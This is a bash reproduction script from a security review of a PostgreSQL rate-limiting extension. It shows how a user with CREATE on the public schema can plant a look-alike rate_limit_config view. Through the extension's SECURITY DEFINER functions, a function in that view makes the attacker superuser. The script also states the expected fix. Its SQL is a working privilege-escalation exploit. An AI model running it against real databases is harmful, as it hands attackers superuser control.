#!/usr/bin/env bash
# Finding 3 (high, needs two conditions): rate_limit_config is resolved by name in the extension's
# schema and, unlike rate_limit_state, never checked (membership of the extension, relkind). Once its
# owner renames it (say, to keep a copy before a migration), anyone with CREATE on the extension's
# schema (public here, as a DBA may grant on PG 15) creates a VIEW named rate_limit_config. Every
# SECURITY DEFINER function then reads it as the extension's owner: a function in the view runs as that
# owner (a superuser) on the first request of ANY session, and the view decides every limit.
# Expected: the same check as the state table: rate_limit_config must be an ordinary table that is a
# member of the extension (else 55000), before any SQL reads or writes it.
source "$(dirname "$0")/lib.sh"
setup_review review_f03_attacker

q <<'SQL'
GRANT CREATE ON SCHEMA public TO review_f03_attacker;
ALTER TABLE rate_limit_config RENAME TO rate_limit_config_before_migration;
SQL
psql -X -q -At -v ON_ERROR_STOP=1 -d "$REVIEW_DB" -U review_f03_attacker <<'SQL'
CREATE FUNCTION public.pwn() RETURNS float8 LANGUAGE plpgsql AS $$
BEGIN
    BEGIN
        EXECUTE 'ALTER ROLE review_f03_attacker SUPERUSER';
    EXCEPTION WHEN insufficient_privilege THEN NULL;
    END;
    RETURN 1e12;
END $$;
CREATE VIEW public.rate_limit_config AS
SELECT 'default'::text COLLATE "C" AS name, 'token_bucket'::text AS algorithm, public.pwn() AS rate,
       interval '1 second' AS period, 1e12::float8 AS capacity, NULL::float8 AS max_reserved,
       NULL::timestamptz AS start;
SQL
# Any role's first request (here the attacker's own session).
q_any -U review_f03_attacker -c "SELECT allowed, remaining FROM rate_limit_request('k')"
super=$(q -c "SELECT rolsuper FROM pg_roles WHERE rolname = 'review_f03_attacker'")
q -c "ALTER ROLE review_f03_attacker NOSUPERUSER" >/dev/null
[ "$super" = t ] && reproduced "the attacker's function ran as the extension's owner: review_f03_attacker became superuser"
holds "the look-alike rate_limit_config was refused"
